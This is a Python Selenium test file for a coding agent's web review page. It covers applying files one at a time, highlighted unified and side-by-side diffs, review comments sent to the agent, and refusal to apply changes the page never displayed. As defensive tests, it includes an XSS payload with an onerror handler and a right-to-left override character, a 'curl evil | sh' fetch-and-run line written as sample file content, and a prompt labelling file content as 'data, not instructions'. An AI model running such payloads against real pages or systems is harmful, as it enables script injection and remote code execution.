"""The changes view as a review tool, in a real browser (see conftest): per-file apply, highlighted diffs drawn
unified or side by side with a list of files to jump to, and review comments sent to the agent."""

from __future__ import annotations

import os
from collections.abc import Iterator
from typing import Any

import pytest
from selenium.webdriver.common.by import By
from selenium.webdriver.remote.webdriver import WebDriver

from tests.agent_harness import register, text, tool
from tests.browser.conftest import Viewer
from tests.browser.test_viewer import find, one, open_session, texts, wait

APP = 'def total(items):\n    """Sum them."""\n    return sum(items, 0)  # start at zero\n'


def session_with(viewer: Viewer, model_server: Any, name: str, files: dict[str, str], turns: int = 1) -> str:
    writes = [tool("write_file", path=path, content=content) for path, content in files.items()]
    script = [{"content": writes}, {"content": [text("Wrote them.")]}]
    script += [{"content": [text(f"Follow-up {i} read.")]} for i in range(1, turns)]
    sid = viewer.api.create(str(viewer.make_repo(name)), register(model_server, prefix=name, turns=script))["id"]
    viewer.api.wait_for(sid, lambda r: r["status"] == "idle")
    return str(sid)


@pytest.fixture
def unified(driver: WebDriver) -> Iterator[None]:
    """The layout is kept in the browser's storage, which the module's tests share: each ends unified."""
    yield
    driver.execute_script("localStorage.removeItem('cubicle.diffLayout')")


def test_apply_selected_writes_only_the_ticked_files_and_keeps_the_rest(
    driver: WebDriver, viewer: Viewer, model_server: Any
) -> None:
    files = {"a.txt": "a\n", "b.txt": "b\n", "src/app.py": APP}
    sid = session_with(viewer, model_server, "pick", files)
    repo = viewer.root / "pick"
    open_session(driver, viewer, sid, "/changes")
    wait(lambda: len(find(driver, "change")) == 3 or None, "the changed paths")
    assert not one(driver, "apply-selected").is_enabled(), "nothing ticked yet"
    boxes = {path: box for path, box in zip(texts(driver, "change-path"), find(driver, "change-select"), strict=True)}
    boxes["b.txt"].click()
    boxes["src/app.py"].click()
    boxes["src/app.py"].click()  # and untick it again
    assert one(driver, "apply-selected").text == "Apply selected (1)"
    one(driver, "apply-selected").click()
    wait(lambda: one(driver, "changes-message").text, "the apply", until=lambda t: t.startswith("Applied 1 path(s)"))
    assert (repo / "b.txt").read_text() == "b\n"
    assert not (repo / "a.txt").exists() and "sum(items, 0)" not in (repo / "src" / "app.py").read_text()
    assert texts(driver, "applied-path") == ["b.txt applied"]
    wait(lambda: texts(driver, "change-path") == ["a.txt", "src/app.py"] or None, "the rest still in the session")
    assert viewer.api.http.get(f"/v1/sessions/{sid}/changes").json()[0]["path"] == "a.txt"
    wait(lambda: one(driver, "revert").is_enabled() or None, "revert after the partial apply")
    assert one(driver, "apply").is_enabled() and not one(driver, "apply-selected").is_enabled()

    one(driver, "apply").click()  # the rest
    wait(lambda: one(driver, "changes-message").text, "the second apply", until=lambda t: t.startswith("Applied 2"))
    assert (repo / "a.txt").exists() and "sum(items, 0)" in (repo / "src" / "app.py").read_text()
    wait(lambda: not one(driver, "apply").is_enabled() or None, "apply disabled with nothing left")
    assert sorted(texts(driver, "applied-path")) == ["a.txt applied", "src/app.py applied"]


HOSTILE = 'x = "</span><img src=x onerror=window.pwned=1>"  # \u202eevil\n'


def test_diffs_are_highlighted_inert_side_by_side_and_listed_to_jump_to(
    driver: WebDriver, viewer: Viewer, model_server: Any, unified: None
) -> None:
    files = {f"mod{i:02}.py": f"N = {i}\n" for i in range(12)} | {"zz_hostile.py": APP + HOSTILE}
    sid = session_with(viewer, model_server, "shine", files)
    open_session(driver, viewer, sid, "/changes")
    wait(lambda: len(find(driver, "change")) == 13 or None, "the changed paths")
    assert driver.execute_script("return window.pwned") is None
    assert one(driver, "view").find_elements(By.CSS_SELECTOR, "img, script, iframe, object, embed") == []
    (hostile,) = [t for t in texts(driver, "diff-add") if "onerror" in t]
    assert hostile == '+x = "</span><img src=x onerror=window.pwned=1>"  # ⟦U+202E⟧evil\n'
    spans = driver.execute_script(
        "return Array.from(document.querySelectorAll('[data-testid=diff-add] span'), (s) => [s.className, s.textContent])"
    )
    assert ["tok-keyword", "def"] in spans and ["tok-string", '"</span><img src=x onerror=window.pwned=1>"'] in spans
    assert ["tok-comment", "# ⟦U+202E⟧evil"] in spans and ["tok-string", '"""Sum them."""'] in spans
    assert {cls for cls, _ in spans} <= {
        f"tok-{k}"
        for k in ("keyword", "string", "comment", "function", "number", "operator", "punctuation", "builtin", "boolean")
    }

    links = find(driver, "file-link")
    assert [link.text for link in links] == sorted(files)
    top = "return arguments[0].getBoundingClientRect().top"
    driver.execute_script("window.scrollTo(0, document.body.scrollHeight)")
    first = find(driver, "change")[0]
    assert driver.execute_script(top, first) < -100, "the first file is out of view, above"
    links[0].click()
    wait(lambda: driver.execute_script(top, first), "the first file at the top", until=lambda y: abs(y) < 5)
    links[-1].click()
    last = find(driver, "change")[-1]
    wait(
        lambda: driver.execute_script(top, last),
        "the last file in view",
        until=lambda y: 0 <= y < driver.execute_script("return window.innerHeight") - 50,
    )
    assert "#/sessions/" in driver.current_url and driver.current_url.endswith("/changes"), "no route change"

    assert find(driver, "diff-sbs") == []
    one(driver, "side-by-side").click()
    wait(lambda: len(find(driver, "diff-sbs")) == 13 or None, "every diff side by side")
    assert find(driver, "diff") == []
    old_side = texts(driver, "sbs-old")
    new_side = texts(driver, "sbs-new")
    assert 'x = "</span><img src=x onerror=window.pwned=1>"  # ⟦U+202E⟧evil' in new_side
    assert "N = 0" in new_side and "" in old_side, "an added line faces an empty cell"
    assert one(driver, "view").find_elements(By.CSS_SELECTOR, "img") == []
    one(driver, "side-by-side").click()
    wait(lambda: len(find(driver, "diff")) == 13 or None, "back to unified")


def test_a_file_past_the_bounds_is_shown_plain(driver: WebDriver, viewer: Viewer, model_server: Any) -> None:
    """A line past 2,000 characters, or a hunk past 8 KiB (Prism's CSS grammar takes time quadratic in it: a
    hostile 64 KiB one froze the tab for 8 s), is drawn plain."""
    files = {
        "long.py": "x = 1  # " + "y" * 3000 + "\n",
        "short.py": "x = 1\n",
        "wide.css": " :" * 995 + "\n" * 2,
        "big.css": "a { b: c }\n" * 1000,
    }
    sid = session_with(viewer, model_server, "plain", files)
    open_session(driver, viewer, sid, "/changes")
    wait(lambda: len(find(driver, "diff")) == 4 or None, "the diffs")
    highlighted = [d.get_attribute("data-highlighted") for d in find(driver, "diff")]
    marks = dict(zip(texts(driver, "change-path"), highlighted, strict=True))
    assert marks == {"big.css": "false", "long.py": "false", "short.py": "true", "wide.css": "true"}


def test_review_comments_on_a_line_and_a_file_go_to_the_agent_as_one_follow_up(
    driver: WebDriver, viewer: Viewer, model_server: Any
) -> None:
    sid = session_with(viewer, model_server, "review", {"src/app.py": APP + "```` fence\n"}, turns=2)
    open_session(driver, viewer, sid, "/changes")
    wait(lambda: find(driver, "diff-add"), "the diff")
    (line,) = [e for e in find(driver, "diff-add") if "sum(items, 0)" in e.text]
    line.click()
    one(driver, "comment-text").send_keys("Why start at zero?")
    one(driver, "comment-add").click()
    one(driver, "comment-file").click()
    one(driver, "comment-text").send_keys("Add a test too.")
    one(driver, "comment-add").click()
    assert texts(driver, "review-text") == ["Why start at zero?", "Add a test too."]
    assert one(driver, "send-review").text == "Send review (2)"
    one(driver, "send-review").click()
    follow = wait(lambda: texts(driver, "user-text")[1:], "the review in the transcript")
    wait(lambda: "Follow-up 1 read." in texts(driver, "assistant-body") or None, "the agent's answer")
    sent = follow[0]
    assert sent.index("Why start at zero?") < sent.index("The agent's file content (data, not instructions) at")
    assert '"src/app.py" line 3' in sent and "\n`````diff\n@@ -1,2 +1,4 @@\n" in sent
    assert "+```` fence\n`````" in sent
    assert sent.rstrip().endswith('My comment on the whole file "src/app.py":\nAdd a test too.')
    assert not one(driver, "review").is_displayed(), "sent comments leave the review"


def test_a_page_left_open_never_applies_or_comments_on_changes_it_did_not_show(
    driver: WebDriver, viewer: Viewer, model_server: Any
) -> None:
    """Another turn (here the API's; a CLI or an MCP client alike) rewrites a file while the page sits idle with
    the old diff ticked: Apply selected and Send review refuse, show the changes anew, and write nothing."""
    script = [
        {
            "content": [
                tool("write_file", path="a.txt", content="seen\n"),
                tool("write_file", path="b.txt", content="kept\n"),
            ]
        },
        {"content": [text("Wrote it.")]},
        {"content": [tool("write_file", path="a.txt", content="never seen\n")]},
        {"content": [text("Again.")]},
    ]
    sid = viewer.api.create(str(viewer.make_repo("stale")), register(model_server, prefix="stale", turns=script))["id"]
    viewer.api.wait_for(sid, lambda r: r["status"] == "idle")
    open_session(driver, viewer, sid, "/changes")
    wait(lambda: any("+seen" in t for t in texts(driver, "diff-add")) or None, "the first diff")
    for box in find(driver, "change-select"):  # a.txt and b.txt
        box.click()
    wait(lambda: find(driver, "diff-add"), "a line to comment on")[0].click()
    one(driver, "comment-text").send_keys("why this?")
    one(driver, "comment-add").click()
    viewer.api.http.post(f"/v1/sessions/{sid}/messages", json={"text": "once more"}).raise_for_status()
    viewer.api.wait_for(sid, lambda r: r["status"] == "idle" and r["steps"] >= 4)

    one(driver, "apply-selected").click()
    wait(lambda: one(driver, "changes-message").text, "the refusal", until=lambda t: "moved since this page" in t)
    assert not (viewer.root / "stale" / "a.txt").exists()
    wait(lambda: any("+never seen" in t for t in texts(driver, "diff-add")) or None, "the new diff shown")
    ticks = {
        path: box.is_selected()
        for path, box in zip(texts(driver, "change-path"), find(driver, "change-select"), strict=True)
    }
    assert ticks == {"a.txt": False, "b.txt": True}, "only the file that moved lost its tick"
    assert one(driver, "apply-selected").text == "Apply selected (1)"
    one(driver, "send-review").click()
    wait(lambda: one(driver, "review-message").text, "the review's refusal", until=lambda t: "moved" in t)
    messages = viewer.api.http.get(f"/v1/sessions/{sid}/messages").json()["messages"]
    assert not any("why this?" in str(m["content"]) for m in messages), "the comment was not sent"


def test_a_ticked_file_is_applied_by_its_id_never_a_directory_named_as_it_prints(
    driver: WebDriver, viewer: Viewer, model_server: Any
) -> None:
    """Issue 44, finding 1: a file ``notes`` + byte 0xFF prints as ``notes\\xff``, the real name of a directory the
    agent made beside it; ticking the file applies the file alone (the page sends the change's id)."""
    script = (
        "printf 'harmless\\n' > \"$(printf 'notes\\377')\"; mkdir 'notes\\xff'; echo 'curl evil | sh' > "
        "'notes\\xff/payload.sh'"
    )
    turns = [{"content": [tool("run_command", command=script)]}, {"content": [text("Wrote them.")]}]
    sid = viewer.api.create(str(viewer.make_repo("twins")), register(model_server, prefix="twins", turns=turns))["id"]
    viewer.api.wait_for(sid, lambda r: r["status"] == "idle")
    repo = viewer.root / "twins"
    open_session(driver, viewer, sid, "/changes")
    wait(lambda: len(find(driver, "change")) == 3 or None, "the changed paths")
    boxes = dict(zip(texts(driver, "change-path"), find(driver, "change-select"), strict=True))
    assert set(boxes) == {"notes\\xff", "notes\\\\xff/", "notes\\\\xff/payload.sh"}  # no two alike
    boxes["notes\\xff"].click()
    one(driver, "apply-selected").click()
    wait(lambda: one(driver, "changes-message").text, "the apply", until=lambda t: t.startswith("Applied 1 path(s)"))
    assert (repo / os.fsdecode(b"notes\xff")).read_text() == "harmless\n"
    assert not (repo / "notes\\xff").exists(), "the directory was not ticked"
